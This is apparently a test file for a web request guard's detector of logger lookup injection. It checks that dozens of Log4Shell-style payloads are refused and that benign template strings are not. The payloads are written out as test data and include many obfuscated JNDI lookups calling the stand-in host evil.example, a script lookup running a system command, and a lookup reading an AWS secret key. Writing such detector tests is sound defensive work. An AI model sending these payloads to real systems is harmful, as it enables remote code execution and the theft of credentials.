// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of template engines and loggers
import { detectLookupInjection } from '../../../../../lambdas/request-guard/threats/lookup/lookup-injection';
import { REFUSED, surestScore } from '../support/surest-detection';

describe('lookups of loggers', () => {
  it.each([
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:ldap://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://evil.example}',
    '$%7Bjndi:dns://evil.example%7D',
    '${j${k8s:k5:-ND}i:ldap://evil.example/a}',
    '${${upper:j}ndi:rmi://evil.example}',
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    '${dns:address|evil.example}',
    '${url:UTF-8:http://evil.example}',
    '${sys:java.version}',
    '${java:os}',
    'Mozilla/5.0 ${jndi:ldap://evil.example/x} test',
    '${jndi:rmi://evil.example:1099/x}',
    '${jndi:ldaps://evil.example/x}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
    '${${lower:${lower:jndi}}:${lower:rmi}://evil.example/x}',
    '${${::-${::-$${::-j}}}}',
    '${j${}ndi:ldap://evil.example}',
    '${jndi:ldap://127.0.0.1#evil.example/a}',
    '${sys:os.name}',
    '${main:x}',
    '${env:AWS_SECRET_ACCESS_KEY}',
    '${urlDecoder:%41}',
    '${properties:a.properties::k}',
    '${jnd${upper:ı}:ldap://evil.example/a}',
    '$\\{jndi:ldap://evil.example/a}',
  ])('is seen in %j', (text) => {
    expect(surestScore(detectLookupInjection, text)).toBeGreaterThanOrEqual(REFUSED);
  });

  it('is seen wherever in a text it stands, since loggers resolve it there', () => {
    expect(
      surestScore(
        detectLookupInjection,
        'Dear all,\nplease see ${${lower:JNDI}:ldap://evil.example} for details.\nBye',
        { place: 'json' },
      ),
    ).toBe(98);
  });

  it.each([
    '${env:HOME}',
    '${date:YYYY-MM-DD}',
    '${event:title}',
    '${main:x}',
    'fileName="logs/${date:MM}.log"',
    'String "${sys:devices/virtual/dmi/id}"',
    'jndi: the naming interface',
  ])('may be a template of another program in JSON: %j', (text) => {
    expect(surestScore(detectLookupInjection, text, { place: 'json' })).toBeLessThan(REFUSED);
  });

  it('is seen where it is cut off', () => {
    expect(surestScore(detectLookupInjection, '${${::-j}ndi:ldap://evil.example/')).toBe(98);
  });
});
